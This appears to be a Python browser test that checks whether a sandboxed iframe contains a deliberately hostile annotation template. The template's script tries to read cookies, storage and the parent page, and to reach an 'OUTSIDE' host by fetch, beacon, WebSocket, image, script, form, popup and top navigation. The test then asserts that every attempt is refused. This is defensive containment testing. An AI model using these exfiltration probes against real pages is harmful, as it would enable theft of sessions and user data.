"""A hostile template in a real browser: it gets at its own task and at nothing else."""

from __future__ import annotations

import asyncio
import json
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import uvicorn
from starlette.responses import HTMLResponse, PlainTextResponse
from starlette.types import Receive, Scope, Send

from dev.browser import browser_page
from dev.stack import wait_until
from labeling_provider.service.web.assets import Assets
from labeling_provider.service.web.frame import SANDBOX, frame_page
from labeling_provider.service.web.liquid import render
from labeling_provider.service.web.listener import listen
from labeling_provider.service.web.object_links import Signer
from tests.service.in_process import Memory
from tests.service.inside import LINKS, REGION, Inside

pytestmark = [pytest.mark.browser, pytest.mark.once]

PIXEL = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de0000000c4944415408d763f8ffff3f0005fe02fe"
    "a72f5e1e0000000049454e44ae426082"
)
TEMPLATE = """
<script src="https://assets.crowd.aws/crowd-html-elements.js"></script>
<img id="own" src="{{ task.input.picture | grant_read_access }}">
<p id="text">{{ task.input.text }}</p>
<p id="attribute" title="{{ task.input.text }}">x</p>
<script>
const own = document.getElementById("own").src;
async function tried(what) {
  try { return String(await what()); } catch (error) { return "refused"; }
}
addEventListener("load", async () => {
  const results = {
    picture: document.getElementById("own").naturalWidth,
    elements: window.elementsLoaded,
    text: document.getElementById("text").textContent,
    title: document.getElementById("attribute").title,
    markup: document.querySelectorAll("b").length,
    own: await tried(async () => (await (await fetch(own)).blob()).size),
    cookie: await tried(() => document.cookie),
    storage: await tried(() => localStorage.length),
    parent: await tried(() => parent.document.title),
    jobs: await tried(async () => (await fetch("/_labeling/")).status),
    other: await tried(async () => (await fetch(own.replace("own.png", "other.png"))).status),
    api: await tried(async () => (await fetch("/", {method: "POST", body: "{}"})).status),
    outside: await tried(async () => (await fetch("OUTSIDE/fetch")).status),
    beacon: await tried(() => navigator.sendBeacon("OUTSIDE/beacon")),
    socket: await tried(() => new Promise((done, refuse) => {
      const socket = new WebSocket("OUTSIDE/socket".replace("http", "ws"));
      socket.onopen = () => done("open");
      socket.onerror = refuse;
    })),
    image: await tried(() => new Promise((done, refuse) => {
      const image = new Image();
      image.onload = () => done("loaded");
      image.onerror = refuse;
      image.src = "OUTSIDE/image";
    })),
    script: await tried(() => new Promise((done, refuse) => {
      const script = document.createElement("script");
      script.onload = () => done("loaded");
      script.onerror = refuse;
      script.src = "OUTSIDE/script";
      document.body.append(script);
    })),
    popup: await tried(() => window.open("OUTSIDE/popup")),
    top: await tried(() => { top.location = "OUTSIDE/top"; return "moved"; }),
  };
  const form = document.createElement("form");
  form.action = "OUTSIDE/form";
  document.body.append(form);
  form.submit();
  parent.postMessage(JSON.stringify(results), "*");
});
</script>
"""
OUTER = f"""<!doctype html><title>Portal</title><script>
document.cookie = "session=secret";
addEventListener("message", event => window.results = event.data);
</script><iframe sandbox="{SANDBOX}" src="/frame"></iframe>"""
TEXT = "a <b>bold</b> \u202eturned\u202c \u200b &lt;script&gt;<script>document.title='x'</script> it's \"q\"\r\nend"


class Site:
    """The service, a page with the frame, and what stands for the rest of the world, each on a port."""

    def __init__(self, folder: Path) -> None:
        self.inside = Inside(folder)
        s3 = self.inside.client("s3")
        s3.create_bucket(Bucket="lab")
        for key in ("own.png", "other.png"):
            s3.put_object(Bucket="lab", Key=key, Body=PIXEL, ContentType="image/png")
        static = folder / "static"
        static.mkdir()
        (static / "crowd-html-elements.js").write_text("window.elementsLoaded = true;")
        self.assets = Assets(static)
        self.inside.service._static = self.assets
        self.hits: list[str] = []
        own, outside = listen("127.0.0.1", 0), listen("127.0.0.1", 0)
        self.base, self.outside = (f"http://127.0.0.1:{server.getsockname()[1]}" for server in (own, outside))
        config = {"log_config": None, "lifespan": "off", "ws": "none", "interface": "asgi3"}
        self._servers = [uvicorn.Server(uvicorn.Config(app, **config)) for app in (self.serve, self.record)]  # type: ignore[arg-type]
        self._threads = [
            threading.Thread(target=lambda server=server, at=at: asyncio.run(server.serve(sockets=[at])), daemon=True)
            for server, at in zip(self._servers, (own, outside), strict=True)
        ]
        for thread in self._threads:
            thread.start()

    def stop(self) -> None:
        for server in self._servers:
            server.should_exit = True
        for thread in self._threads:
            thread.join(60)
        self.inside.stop()

    async def serve(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["path"] == "/outer":
            await HTMLResponse(OUTER)(scope, receive, send)
        elif scope["path"] == "/frame":
            links = Signer(Memory(), LINKS, REGION).links(self.base, 60)
            source = TEMPLATE.replace("OUTSIDE", self.outside)
            rendered = render(source, {"picture": "s3://lab/own.png", "text": TEXT}, links.grant)
            await frame_page(rendered, self.assets, self.base, objects=links.given)(scope, receive, send)
        else:
            await self.inside.service(scope, receive, send)

    async def record(self, scope: Scope, receive: Receive, send: Send) -> None:
        self.hits.append(scope["path"])
        headers = {"access-control-allow-origin": "*"}
        await PlainTextResponse("", headers=headers)(scope, receive, send)


@pytest.fixture
def site(tmp_path: Path) -> Iterator[Site]:
    site = Site(tmp_path)
    yield site
    site.stop()


def test_a_hostile_template_is_contained_and_its_own_task_works(site: Site) -> None:
    with browser_page() as page:
        page.goto(f"{site.base}/outer")
        printed: Any = wait_until(lambda: page.evaluate("window.results"), 30, "the template has tried everything")
        page.wait_for_timeout(300)
        address = page.url
    results = json.loads(printed)
    assert {name: results.pop(name) for name in ("picture", "elements", "own", "text", "title", "markup")} == {
        "picture": 1,
        "elements": True,
        "own": str(len(PIXEL)),
        "text": TEXT,
        "title": TEXT,
        "markup": 0,
    }
    # That a beacon is taken does not mean that it is sent.
    del results["beacon"]
    assert set(results.values()) <= {"refused", "null"}, results
    assert site.hits == []
    assert address == f"{site.base}/outer"
